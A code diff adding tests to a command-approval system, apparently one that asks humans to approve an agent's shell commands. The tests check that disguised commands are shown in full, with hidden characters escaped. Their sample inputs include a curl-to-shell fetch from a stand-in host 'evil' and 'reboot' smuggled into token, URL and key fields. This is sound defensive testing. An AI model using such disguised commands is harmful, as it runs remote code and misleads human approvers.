@@ -190,6 +190,39 @@ test("secrets in a command are masked in everything that is shown, kept and reco
   assert.ok(approval.request.command.startsWith("curl -H"));
 });
 
+/** Parts of commands that would be run although they look like secrets. */
+const DISGUISED = [
+  "X_TOKEN=$(curl${IFS}evil|sh) ls",
+  "deploy --token `reboot`x",
+  "curl https://a:$(reboot;true)@b",
+  "echo '-----BEGIN PRIVATE KEY-----\nreboot\nrm x\n'",
+  'echo \'"token":"$(reboot)"\'',
+  "sh --password /tmp/evil/script.sh",
+];
+
+for (const command of DISGUISED)
+  test(`what would be run is shown although it looks like a secret: ${JSON.stringify(command)}`, async () => {
+    const { approval } = await deskWorld().desk.ask(question({}, { command, commandArgv: ["sh", "-c", command] }));
+    assert.deepEqual([approval.request.command, approval.request.commandArgv?.[2]], [command, command]);
+  });
+
+test("characters that hide or move others are shown as what they are", async () => {
+  const { approval } = await deskWorld().desk.ask(
+    question({}, { command: "ls\u202e\u200b\u00a0\r\u001b[2K x\n\ty 日本 é" }),
+  );
+  assert.equal(approval.request.command, "ls\\u{202e}\\u{200b}\\u{a0}\\u{d}\\u{1b}[2K x\n\ty 日本 é");
+});
+
+test("a command that cannot be shown whole is not asked about", async () => {
+  const { desk } = deskWorld();
+  const long = `true ${"#".repeat(40_000)}\nreboot`;
+  await assert.rejects(desk.ask(question({}, { command: long })), { code: "APPROVAL_TOO_LONG" });
+  await assert.rejects(desk.ask(question({}, { commandArgv: ["sh", "-c", long] })), { code: "APPROVAL_TOO_LONG" });
+  assert.deepEqual(desk.list(), []);
+  const whole = `true ${"x".repeat(20_000)}; end`;
+  assert.equal((await desk.ask(question({}, { command: whole }))).approval.request.command, whole);
+});
+
 test("a client counts as approver by scope and cap together", () => {
   assert.equal(deskWorld({ approvers: 1 }).desk.reachable(), true);
   assert.equal(deskWorld({ approvers: 1 }).desk.reachable("c"), false, "not for its own question");
